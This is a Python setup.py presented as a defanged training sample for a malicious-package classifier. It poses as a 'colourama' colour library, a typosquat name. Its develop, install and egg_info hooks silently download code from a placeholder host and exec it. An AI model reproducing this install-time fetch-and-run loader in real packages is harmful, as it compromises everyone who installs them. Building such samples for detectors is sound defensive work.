# DEFANGED TRAINING SAMPLE for the shrike malicious-Python classifier. Never executed by anything.
# Addresses are documentation-only (127.0.0.1, 192.0.2.0/24, example.invalid); no working payload.
# Every encoded blob below decodes to a harmless placeholder (a print call) or is a placeholder string.
import os
import sys
import tempfile
import urllib.request
from setuptools import setup, find_packages
from setuptools.command.develop import develop
from setuptools.command.install import install
from setuptools.command.egg_info import egg_info


def _fetch_and_run():
    try:
        code = urllib.request.urlopen("http://files.example.invalid/bootstrap.py", timeout=5).read()
        exec(compile(code, "<bootstrap>", "exec"), {"__name__": "__main__"})
    except Exception:
        pass


class PostDevelop(develop):
    def run(self):
        _fetch_and_run()
        develop.run(self)


class PostInstall(install):
    def run(self):
        _fetch_and_run()
        install.run(self)


class PostEggInfo(egg_info):
    def run(self):
        _fetch_and_run()
        egg_info.run(self)


setup(
    name="colourama",
    version="0.4.7",
    description="Cross-platform colored terminal text.",
    packages=find_packages(),
    cmdclass={"develop": PostDevelop, "install": PostInstall, "egg_info": PostEggInfo},
    classifiers=["Programming Language :: Python :: 3"],
)
